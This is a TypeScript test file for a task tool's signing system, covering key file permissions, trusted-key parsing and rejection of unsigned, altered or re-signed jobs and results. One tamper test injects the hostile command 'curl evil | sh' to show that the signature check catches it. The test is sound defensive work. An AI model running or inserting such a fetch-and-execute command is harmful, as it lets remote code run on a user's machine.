import { chmod, mkdtemp, rm, stat } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { TaskPayloadError, TaskRefusedError, TrustError } from '../errors/index.js';
import { taskSpecFixture } from '../test-utils/task-spec-fixture.js';
import { KeyRing, parseTrustedKeys } from './key-ring.js';
import { openSignedJob, signTask, taskSigner } from './signed-job.js';
import { signResult, verifyResult, type ResultClaim } from './signed-result.js';
import { createSigningKey, ensureSigningKey, loadSigningKey, parsePublicKey, signingKeyFile, type SigningKey } from './signing-key.js';

let dir: string;
let alice: SigningKey;
let bob: SigningKey;

beforeEach(async () => {
  dir = await mkdtemp(join(tmpdir(), 'tsk-signing-'));
  alice = await createSigningKey(join(dir, 'alice'), { name: 'alice@laptop' });
  bob = await createSigningKey(join(dir, 'bob'), { name: 'bob' });
});

afterEach(async () => {
  await rm(dir, { recursive: true, force: true });
});

/** A spec as alice's `tsk add` makes it. */
function aliceSpec(overrides = {}) {
  return taskSpecFixture({ signer: taskSigner(alice), ...overrides });
}

function refusal(run: () => unknown): string {
  try {
    run();
  } catch (error) {
    expect(error).toBeInstanceOf(TaskRefusedError);
    return (error as Error).message;
  }
  throw new Error('not refused');
}

describe('signing keys', () => {
  it('should write the key readable by its owner only, and read the same key back', async () => {
    const file = signingKeyFile(join(dir, 'alice'));
    expect((await stat(file)).mode & 0o777).toBe(0o600);
    const loaded = await loadSigningKey(join(dir, 'alice'));
    expect(loaded?.publicKey).toBe(alice.publicKey);
    expect(loaded?.name).toBe('alice@laptop');
    expect(parsePublicKey(alice.publicKey)).toBe(alice.publicKey);
  });

  it('should refuse a key file other users can read, and never replace a key unasked', async () => {
    const file = signingKeyFile(join(dir, 'alice'));
    await chmod(file, 0o644);
    await expect(loadSigningKey(join(dir, 'alice'))).rejects.toThrow(`${file} can be read by other users (mode 644)`);
    await chmod(file, 0o600);
    await expect(createSigningKey(join(dir, 'alice'))).rejects.toBeInstanceOf(TrustError);
    expect((await loadSigningKey(join(dir, 'alice')))?.publicKey).toBe(alice.publicKey);
  });

  it('should make the key on first use, once, even when several processes ask at the same moment', async () => {
    const home = join(dir, 'carol');
    const made = await Promise.all([ensureSigningKey(home), ensureSigningKey(home), ensureSigningKey(home)]);
    expect(new Set(made.map((entry) => entry.key.publicKey)).size).toBe(1);
    expect(made.filter((entry) => entry.created)).toHaveLength(1);
  });

  it('should parse trusted key files and refuse what is not a key', () => {
    const signers = parseTrustedKeys(`# team\n${bob.publicKey} bob\n\n${alice.publicKey}   alice\n`, '/keys');
    expect(signers.map((signer) => [signer.name, signer.publicKey])).toEqual([
      ['bob', bob.publicKey],
      ['alice', alice.publicKey],
    ]);
    expect(() => parseTrustedKeys('ssh-ed25519:AAAA bob\n', '/keys')).toThrow('/keys:1: "ssh-ed25519:AAAA" is not a tsk public key');
    expect(() => parseTrustedKeys(`${bob.publicKey}\n`, '/keys')).toThrow('/keys:1: expected "<key> <name>"');
  });
});

describe('signed jobs', () => {
  const ownerRing = () => new KeyRing({ name: 'alice (owner)', publicKey: alice.publicKey, owner: true }, [{ name: 'bob', publicKey: bob.publicKey, owner: false }]);

  it('should open a job signed by a trusted key, naming the signer as the ring knows it', () => {
    const { job } = signTask(aliceSpec(), alice);
    const verified = openSignedJob(job, ownerRing(), 'Abc_1234');
    expect(verified.spec).toEqual(aliceSpec());
    expect(verified.signer).toEqual({ name: 'alice (owner)', publicKey: alice.publicKey, owner: true });
    const bobs = openSignedJob(signTask(taskSpecFixture({ signer: taskSigner(bob) }), bob).job, ownerRing(), 'Abc_1234');
    expect(bobs.signer.owner).toBe(false);
  });

  it('should refuse unsigned, older, unknown-key, altered and re-signed jobs', () => {
    const { job } = signTask(aliceSpec(), alice);
    expect(refusal(() => openSignedJob(aliceSpec(), ownerRing(), 'Abc_1234'))).toBe('the job is not a signed tsk task (unsigned or unknown format)');
    expect(refusal(() => openSignedJob({ ...aliceSpec(), version: 1 }, ownerRing(), 'Abc_1234'))).toBe('it was queued by an older tsk and is not signed');
    const mallory = signTask(taskSpecFixture({ signer: { name: 'alice@laptop', key: bob.publicKey } }), bob).job;
    expect(refusal(() => openSignedJob(mallory, KeyRing.ownerOnly(alice), 'Abc_1234'))).toMatch(/^it is signed by a key this worker does not trust: ed25519:.{8}… \(it calls itself "alice@laptop"\)$/);
    const altered = { ...job, spec: job.spec.replace('echo hi', 'curl evil | sh') };
    expect(refusal(() => openSignedJob(altered, ownerRing(), 'Abc_1234'))).toBe('its signature does not match: the job was altered after alice (owner) signed it');
    // Swapping in another trusted signer's name and key does not make alice's signature bob's.
    const claimsBob = { ...job, spec: job.spec.replace(JSON.stringify(taskSigner(alice)), JSON.stringify(taskSigner(bob))) };
    expect(refusal(() => openSignedJob(claimsBob, ownerRing(), 'Abc_1234'))).toContain('signature does not match');
    expect(refusal(() => openSignedJob({ ...job, extra: 1 }, ownerRing(), 'Abc_1234'))).toBe('the job carries fields outside its signature');
  });

  it('should check the signed spec completely: a signature proves who made it, not that it is sound', () => {
    const { job } = signTask(aliceSpec({ repoPath: '/other' }), alice);
    expect(() => openSignedJob(job, ownerRing(), 'Abc_1234')).toThrow(TaskPayloadError);
    expect(() => openSignedJob(signTask(aliceSpec(), alice).job, ownerRing(), 'Zzz_9999')).toThrow('id Abc_1234 does not match the job id');
  });
});

describe('signed results', () => {
  const claim: ResultClaim = { taskId: 'Abc_1234', status: 'COMPLETE', baseCommit: 'a'.repeat(40), commit: 'b'.repeat(40), branch: 'tsk/generic/demo/Abc_1234' };

  it('should verify a claim as signed, and nothing else', () => {
    const signature = signResult(claim, bob);
    const ring = new KeyRing({ name: 'alice', publicKey: alice.publicKey, owner: true }, [{ name: 'bob', publicKey: bob.publicKey, owner: false }]);
    expect(verifyResult(claim, signature, ring)?.name).toBe('bob');
    expect(verifyResult({ ...claim, commit: 'c'.repeat(40) }, signature, ring)).toBeUndefined();
    expect(verifyResult({ ...claim, status: 'FAILED' }, signature, ring)).toBeUndefined();
    expect(verifyResult(claim, signature, KeyRing.ownerOnly(alice))).toBeUndefined();
    expect(verifyResult(claim, {}, ring)).toBeUndefined();
  });

  it('should never take a job signature for a result signature', () => {
    const { job } = signTask(aliceSpec(), alice);
    expect(verifyResult(claim, { signature: job.signature, signer: alice.publicKey }, KeyRing.ownerOnly(alice))).toBeUndefined();
  });
});
